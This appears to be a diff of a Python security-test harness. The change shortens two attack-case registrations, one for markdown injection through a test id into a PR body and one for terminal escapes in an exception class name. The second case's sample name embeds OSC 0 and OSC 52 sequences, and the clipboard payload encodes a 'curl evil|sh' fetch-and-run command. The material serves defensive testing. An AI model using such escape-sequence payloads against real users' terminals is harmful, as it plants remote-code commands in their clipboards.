@@ -35,12 +35,7 @@ def live_markup(lab: Lab, evidence: Evidence) -> list[str]:
     return found
 
 
-@ATTACKS.add(
-    "test-id-mention-link",
-    check=live_markup,
-    expect="live markup",
-    open="a test id's backticks close the code span: a live @mention, link and image in the PR body",
-)
+@ATTACKS.add("test-id-mention-link", check=live_markup, expect="live markup")
 def mention_in_test_id(lab: Lab, held: bool) -> Evidence:
     """A failing test's id carries backticks, an @team mention, a link and an image."""
     test = (
@@ -75,12 +70,7 @@ def osc8_in_message(lab: Lab, held: bool) -> Evidence:
     return lab.host([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider"])
 
 
-@ATTACKS.add(
-    "error-type-title-escape",
-    check=escapes,
-    expect="escape sequence",
-    open="an exception class name reaches the terminal raw (OSC 0 title, OSC 52 clipboard)",
-)
+@ATTACKS.add("error-type-title-escape", check=escapes, expect="escape sequence")
 def error_type_title_escape(lab: Lab, held: bool) -> Evidence:
     """The exception's class name sets the terminal title and writes the clipboard (OSC 0, OSC 52)."""
     name = "Boom\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07"
